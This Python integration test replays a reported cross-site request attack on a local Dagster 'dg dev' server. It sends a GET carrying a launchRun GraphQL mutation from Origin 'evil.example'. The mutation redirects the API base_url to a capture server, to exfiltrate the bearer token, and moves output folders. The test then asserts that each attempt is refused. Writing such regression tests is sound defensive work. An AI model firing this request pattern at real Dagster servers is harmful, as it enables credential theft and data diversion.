"""The probe of issue 10, finding 3, replayed against the real ``dg dev`` (webserver + daemon).

While ``dg dev`` ran, one cross-site GET ``/graphql?query=mutation{launchRun...}`` whose run config set
``resources.crm_api.config.base_url`` to another host launched a run that sent ``Authorization: Bearer
<the real token>`` there; another set ``io_manager.config.data_dir`` and moved every output table. Here
the "other host" is a capture server this test runs on 127.0.0.1, the token is a fresh secret, and the
other folder is a path under tmp: after both attacks the capture server has received nothing and the
other folder does not exist.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest

from crm_territory_tests.support import REPO_ROOT
from crm_territory_tests.support.capture_server import CaptureServer
from crm_territory_tests.support.dagster_servers import (
    Dagster,
    free_port,
    repository_selector,
    start_until_server_info,
    stop_group,
    wait_for_run,
)

pytestmark = pytest.mark.integration

# make dev's instance: one run writes the tables at a time; the daemon dequeues and launches runs
INSTANCE_YAML = "concurrency:\n  pools:\n    default_limit: 1\n    granularity: run\ntelemetry:\n  enabled: false\n"
REFUSED = "Refused: this run's config sets resources.io_manager.config.data_dir"


def _start_dg_dev(env: dict[str, str], log_path: Path) -> tuple[subprocess.Popen[bytes], str]:
    """``dg dev`` as ``make dev`` starts it (webserver, daemon, code server), on a free loopback port.

    In its own process group: stop_group ends the webserver, daemon, code server and runs.
    """
    exe = Path(sys.executable).parent / "dg"
    return start_until_server_info(
        lambda port: [str(exe), "dev", "--host", "127.0.0.1", "--port", str(port)], env, log_path, name="dg dev"
    )


def _gql_literal(value: Any) -> str:
    """A Python value as a GraphQL input literal (what the probe typed into its link)."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k}: {_gql_literal(v)}" for k, v in value.items()) + "}"
    return json.dumps(value)


def _probe_get(base_url: str, selector: dict[str, str], job: str, run_config: dict[str, Any]) -> dict[str, Any]:
    """The probe's request: a GET carrying a launchRun mutation, from a foreign Origin, no other header."""
    params = {"selector": {**selector, "jobName": job}, "runConfigData": run_config}
    query = (
        f"mutation {{ launchRun(executionParams: {_gql_literal(params)}) {{ __typename "
        "... on LaunchRunSuccess { run { runId } } "
        "... on RunConfigValidationInvalid { errors { message } } "
        "... on PythonError { message } ... on Error { message } } }"
    )
    response = httpx.get(f"{base_url}/graphql", params={"query": query}, headers={"Origin": "http://evil.example"}, timeout=30.0)
    assert response.status_code == 200, response.text[:2000]
    body = response.json()
    assert not body.get("errors"), body
    return body["data"]["launchRun"]


RUN_ERRORS_QUERY = """
query RunErrors($runId: ID!) {
  runOrError(runId: $runId) {
    __typename
    ... on Run {
      eventConnection(limit: 1000) {
        events {
          __typename
          ... on MessageEvent { message }
          ... on ErrorEvent { error { message causes { message } } }
        }
      }
    }
  }
}
"""


def _run_events(dagster: Dagster, run_id: str) -> tuple[list[dict[str, Any]], str]:
    """The run's events, and every message and error text in them (the refusal is in a resource-init error)."""
    run = dagster.query(RUN_ERRORS_QUERY, {"runId": run_id})["runOrError"]
    assert run["__typename"] == "Run", run
    events = run["eventConnection"]["events"]
    texts = []
    for event in events:
        texts.append(event.get("message") or "")
        error = event.get("error") or {}
        texts += [error.get("message") or "", *(c.get("message") or "" for c in error.get("causes") or [])]
    return events, "\n".join(texts)


def _files(root: Path) -> dict[str, tuple[int, int]]:
    return {str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) for p in root.rglob("*") if p.is_file()}


def test_a_cross_site_get_cannot_send_the_token_or_the_tables_elsewhere(tmp_path: Path, capture: CaptureServer) -> None:
    data_dir = tmp_path / "data"
    for sub in ("reference", "rules", "matching"):
        shutil.copytree(REPO_ROOT / "data" / sub, data_dir / sub)
    (data_dir / "landing").mkdir()  # empty: the drop sensor has nothing to run, so every run here is the probe's
    elsewhere = tmp_path / "elsewhere"
    dagster_home = tmp_path / "dagster_home"
    dagster_home.mkdir()
    (dagster_home / "dagster.yaml").write_text(INSTANCE_YAML)
    token = secrets.token_urlsafe(24)
    log_path = tmp_path / "dg_dev.log"

    env = {k: v for k, v in os.environ.items() if not k.startswith(("CRM_", "DAGSTER_", "SNOWFLAKE_"))}
    env.update(
        DAGSTER_HOME=str(dagster_home),
        CRM_DATA_DIR=str(data_dir),
        CRM_API_URL=f"http://127.0.0.1:{free_port()}",  # the real API is not needed: no run may reach any API
        CRM_API_TOKEN=token,
        PYTHONUNBUFFERED="1",
    )
    before = _files(data_dir)
    proc, base_url = _start_dg_dev(env, log_path)
    dagster = Dagster(base_url, log_path)
    try:
        selector = repository_selector(dagster, "materialize_all_job")

        # 1. The probe's request: the API moved to the capture server, the real token by reference.
        moved_api = {"resources": {"crm_api": {"config": {"base_url": capture.url, "token": {"env": "CRM_API_TOKEN"}}}}}
        launched = _probe_get(base_url, selector, "crm_api_pull_job", moved_api)
        if launched["__typename"] == "LaunchRunSuccess":  # unfixed: let the run do its harm, then fail below
            wait_for_run(dagster, launched["run"]["runId"])
        assert launched["__typename"] == "RunConfigValidationInvalid", launched
        assert any('unexpected config entry "base_url"' in e["message"] for e in launched["errors"]), launched

        # 2. The tables moved to another folder: the run is created, and refused when its resources start.
        moved_tables = {"resources": {"io_manager": {"config": {"data_dir": str(elsewhere), "lock_wait_seconds": 5}}}}
        launched = _probe_get(base_url, selector, "materialize_all_job", moved_tables)
        if launched["__typename"] == "LaunchRunSuccess":
            run_id = launched["run"]["runId"]
            status = wait_for_run(dagster, run_id)
            events, messages = _run_events(dagster, run_id)
            assert status == "FAILURE", f"the redirected run ended {status}"
            assert REFUSED in messages, messages[-3000:]
            assert not any(e["__typename"] == "MaterializationEvent" for e in events)
        else:  # refused even earlier, by the schema (the IO manager took the FixedAtLoad mixin)
            assert launched["__typename"] == "RunConfigValidationInvalid", launched

        # 3. The landing folder moved (every file resource): refused by the schema.
        moved_landing = {"resources": {"landing": {"config": {"data_dir": str(elsewhere)}}}}
        launched = _probe_get(base_url, selector, "drop_ingest_job", moved_landing)
        if launched["__typename"] == "LaunchRunSuccess":
            wait_for_run(dagster, launched["run"]["runId"])
        assert launched["__typename"] == "RunConfigValidationInvalid", launched
    finally:
        dagster.http.close()
        stop_group(proc)

    leaked = [r for r in capture.requests if token in (r.authorization or "")]
    assert not leaked, f"the real token was sent to the capture server: {[r.path for r in leaked]}"
    assert capture.requests == [], capture.requests
    # No table, no folder: only the IO manager's writer lock may be there, while the IO manager (crm_territory/storage/)
    # does not take FixedAtLoad and locks the folder before another resource's set-up refuses the run.
    assert [p.name for p in elsewhere.rglob("*") if p.is_file()] in ([], [".crm-territory.lock"])
    assert _files(data_dir) == before, "a refused run wrote into the data folder"
    assert token not in log_path.read_text(errors="replace")
